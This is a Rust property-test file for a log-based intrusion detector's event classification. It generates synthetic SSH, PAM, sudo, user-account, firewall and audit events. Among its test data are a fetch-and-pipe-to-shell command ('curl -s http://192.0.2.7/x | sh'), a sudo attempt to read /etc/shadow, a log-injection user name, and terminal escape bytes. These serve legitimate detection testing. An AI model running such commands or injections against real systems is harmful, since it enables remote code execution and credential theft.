//! [`Facts::of`], the detector's one match over an event, answers as the event's own methods
//! do (`source`, `user`, `is_auth_failure`, `is_hostile`, `takes_source`), for every kind.

use std::borrow::Cow;

use proptest::prelude::*;

use super::{Facts, Role};
use crate::event::EventKind;

fn b(s: &[u8]) -> Cow<'static, [u8]> {
    Cow::Owned(s.to_vec())
}

/// Sources: IPv4, IPv6 (short, 34 and 39 bytes), host names, names of exactly 15/16 bytes
/// (the inline key's limit) and 63/64 bytes (the session's), longer, empty, not UTF-8;
/// bytes from 128 up give 128 more distinct IPv4 addresses (distributed attacks).
fn source(k: u8) -> Vec<u8> {
    const POOL: [&[u8]; 16] = [
        b"203.0.113.5",
        b"198.51.100.77",
        b"10.0.0.1",
        b"2001:db8::1",
        b"2606:2800:220:1:248:1893:25c8:1946",
        b"aaaa:bbbb:cccc:dddd:eeee:ffff:1111:2222",
        b"example.com",
        b"255.255.255.255",
        b"host-16-bytes.xy",
        b"a-host-name-of-exactly-sixty-three-bytes.example.invalid.abcdef",
        b"a-host-name-of-exactly-sixty-four-bytes.example.invalid.abcdefg",
        b"a-very-long-host-name-of-one-hundred-bytes.example.invalid.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        b"",
        b"\xff\xfe.bad\x1b[0m",
        b"::1",
        b"192.0.2.1",
    ];
    if k < 128 {
        POOL[usize::from(k % 16)].to_vec()
    } else {
        format!("172.16.{}.{}", k % 4, k).into_bytes()
    }
}

/// Users: root, empty, not UTF-8, an injection attempt, long, and 20 plain names.
fn user(k: u8) -> Vec<u8> {
    match k % 26 {
        0 => b"root".to_vec(),
        1 => b"admin".to_vec(),
        2 => Vec::new(),
        3 => b"\xff\xfeuser".to_vec(),
        4 => b"x from 1.2.3.4 port 22".to_vec(),
        5 => vec![b'u'; 70],
        n => format!("user{n}").into_bytes(),
    }
}

/// One generated event: `(kind, source, user, bits, pid, time, delta, repeat)`.
type Op = (u8, u8, u8, u8, u8, u8, u16, u8);

/// The event of an op (kinds 0..=31).
fn event(op: &Op) -> EventKind<'static> {
    let &(kind, s, u, bits, _, _, delta, _) = op;
    let ip = b(&source(s));
    let opt_ip = (bits & 1 == 0).then(|| ip.clone());
    let usr = b(&user(u));
    let opt_user = (bits & 2 == 0).then(|| usr.clone());
    let port = (bits & 0x40 == 0).then_some(delta);
    use EventKind as E;
    match kind {
        0..=2 => E::SshFailed {
            method: b(match bits & 3 {
                1 => b"publickey",
                2 => b"keyboard-interactive",
                _ => b"password",
            }),
            user: usr,
            invalid_user: bits & 4 != 0,
            ip,
            port,
        },
        3 | 4 => E::SshAccepted {
            method: b(if bits & 4 == 0 {
                b"password"
            } else {
                b"publickey"
            }),
            user: if bits & 8 != 0 { b(b"root") } else { usr },
            ip,
            port,
            key: None,
        },
        5 => E::SshInvalidUser {
            user: usr,
            ip: opt_ip,
            port,
        },
        6 => E::SshUserNotAllowed {
            user: usr,
            ip: opt_ip,
            reason: b(b"not listed in AllowUsers"),
        },
        7 => E::SshRootRefused { ip },
        8 => E::SshPamFailure { user: usr, ip },
        9 => E::SshMaxAuthAttempts {
            user: usr,
            ip: opt_ip,
            port,
        },
        10 => E::SshTooManyFailures {
            user: opt_user,
            ip: opt_ip,
        },
        11 | 12 => E::SshPreauthDisconnect {
            user: opt_user,
            ip: opt_ip,
            port,
            code: match (bits >> 4) & 3 {
                0 => None,
                1 => Some(3),
                2 => Some(11),
                _ => Some(14),
            },
        },
        13 => E::SshScan {
            ip: opt_ip,
            what: b(b"Did not receive identification string"),
        },
        14 => E::SshConnection { ip, port },
        15 | 16 => E::SshClosed { ip: opt_ip },
        17 => E::SshBreakInAttempt { ip },
        18 | 19 => E::PamAuthFailure {
            service: b(match (bits >> 2) & 3 {
                0 | 1 => b"sshd",
                2 => b"sudo",
                _ => b"login",
            }),
            user: opt_user,
            ruser: (bits & 0x10 == 0).then(|| b(&user(u.wrapping_add(7)))),
            rhost: match (bits >> 5) & 3 {
                0 => None,
                1 => Some(b(b"")),
                _ => Some(ip),
            },
        },
        20 => E::PamSession {
            service: b(if bits & 2 == 0 { b"sshd" } else { b"su" }),
            opened: bits & 1 == 0,
            user: usr,
            by: (bits & 4 == 0).then(|| b(b"alice")),
        },
        21 => E::Sudo {
            user: usr,
            tty: None,
            pwd: None,
            runas: Some(b(b"root")),
            command: Some(b(b"/bin/sh")),
        },
        22 => E::SudoFailure {
            user: usr,
            attempts: 3,
            command: None,
        },
        23 => E::SudoNotInSudoers {
            user: usr,
            runas: None,
            command: (bits & 1 == 0).then(|| b(b"/bin/cat /etc/shadow \x1b[31m")),
        },
        24 => E::Su {
            success: bits & 1 == 0,
            user: opt_user,
            target: Some(b(b"root")),
        },
        25 => E::UserAdded {
            name: usr,
            uid: match bits & 3 {
                0 => None,
                1 => Some(0),
                _ => Some(1000 + u32::from(u)),
            },
            gid: None,
            home: None,
            shell: None,
        },
        26 => match bits & 3 {
            0 => E::UserDeleted { name: usr },
            1 => E::UserModified {
                name: usr,
                change: b(b"change user shell"),
            },
            _ => E::GroupAdded {
                name: usr,
                gid: Some(1001),
            },
        },
        27 => E::GroupMember {
            user: usr,
            group: b(match (bits >> 2) & 7 {
                0 => b"sudo",
                1 => b"wheel",
                2 => b"docker",
                3 => b"users",
                4 => b"video",
                5 => b"root",
                6 => b"adm",
                _ => b"\xffgrp",
            }),
            added: bits & 1 == 0,
        },
        28 => match bits & 3 {
            0 => E::PasswordChanged {
                user: usr,
                by: b(b"root"),
            },
            1 => E::LogindSession {
                new: true,
                session: b(b"42"),
                user: opt_user,
            },
            _ => E::CronCommand {
                user: usr,
                command: b(b"run-parts /etc/cron.hourly"),
            },
        },
        29 | 30 => E::Netfilter {
            prefix: b(b"[UFW BLOCK] "),
            in_if: Some(b(b"eth0")),
            out_if: None,
            src: ip,
            dst: Some(b(b"192.0.2.10")),
            proto: Some(b(b"TCP")),
            spt: Some(40000),
            dpt: (bits & 1 == 0).then_some(delta % 40),
            flags: b(b"SYN"),
        },
        _ => match bits & 7 {
            0 | 1 => E::FsError {
                device: (bits & 1 == 0).then(|| b(b"sda1")),
                detail: b(b"EXT4-fs error"),
            },
            2 => E::ModuleTaint {
                module: b(b"rootkit"),
                reason: b(b"module verification failed: signature missing \x07"),
            },
            3 => E::Segfault {
                program: b(b"nginx"),
                pid: Some(7),
            },
            // The audit log's own kinds.
            4 => E::Service {
                unit: b(b"aegis"),
                started: bits & 8 == 0,
                success: bits & 16 == 0,
            },
            5 => E::AuditTamper {
                what: b(b"audit_enabled=0"),
                user: opt_user,
            },
            6 => E::Promiscuous {
                device: b(b"eth0"),
                on: bits & 8 == 0,
                user: opt_user,
            },
            _ if bits & 8 == 0 => E::SystemPower {
                boot: bits & 16 == 0,
            },
            _ => E::AuditCommand {
                key: b(b"exec"),
                user: opt_user,
                exe: (bits & 16 == 0).then(|| b(b"/usr/bin/curl")),
                command: b(b"curl -s http://192.0.2.7/x | sh"),
            },
        },
    }
}

fn op() -> impl Strategy<Value = Op> {
    (
        0u8..32,
        prop_oneof![3 => 0u8..16, 1 => any::<u8>()],
        any::<u8>(),
        any::<u8>(),
        any::<u8>(),
        any::<u8>(),
        prop_oneof![3 => 0u16..30, 1 => any::<u16>()],
        any::<u8>(),
    )
}

proptest! {
    /// `Facts::of` answers as the event's own methods do, for every kind.
    #[test]
    fn facts_match_methods(o in op()) {
        let e = event(&o);
        let f = Facts::of(&e);
        prop_assert_eq!(f.source, e.source());
        prop_assert_eq!(f.user, e.user());
        prop_assert_eq!(f.auth_failure, e.is_auth_failure());
        prop_assert_eq!(f.hostile, e.is_hostile());
        prop_assert_eq!(f.takes_source, e.takes_source());
        prop_assert_eq!(f.role == Role::Accepted, matches!(e, EventKind::SshAccepted { .. }));
        prop_assert_eq!(f.role == Role::MaxAuth, matches!(e, EventKind::SshMaxAuthAttempts { .. }));
        prop_assert_eq!(f.role == Role::TooMany, matches!(e, EventKind::SshTooManyFailures { .. }));
        prop_assert_eq!(
            f.role == Role::Closed,
            matches!(e, EventKind::SshClosed { .. } | EventKind::SshPreauthDisconnect { .. })
        );
        prop_assert_eq!(
            f.role == Role::PamSshd,
            matches!(&e, EventKind::PamAuthFailure { service, .. } if &**service == b"sshd")
        );
        prop_assert_eq!(
            matches!(f.role, Role::Port(_)),
            matches!(e, EventKind::Netfilter { dpt: Some(_), .. })
        );
    }
}

/// Every kind the generator makes, once each with every bit pattern: `Facts` agrees.
#[test]
fn facts_match_methods_all_kinds() {
    let mut kinds = std::collections::BTreeSet::new();
    for kind in 0..32u8 {
        for bits in 0..=255u8 {
            let e = event(&(kind, bits % 20, bits, bits, 0, 0, 22, 0));
            let f = Facts::of(&e);
            assert_eq!(f.source, e.source(), "{e:?}");
            assert_eq!(f.user, e.user(), "{e:?}");
            assert_eq!(f.auth_failure, e.is_auth_failure(), "{e:?}");
            assert_eq!(f.hostile, e.is_hostile(), "{e:?}");
            assert_eq!(f.takes_source, e.takes_source(), "{e:?}");
            kinds.insert(e.name());
        }
    }
    // Every kind is generated.
    assert_eq!(kinds.len(), EventKind::NAMES.len(), "{kinds:?}");
}
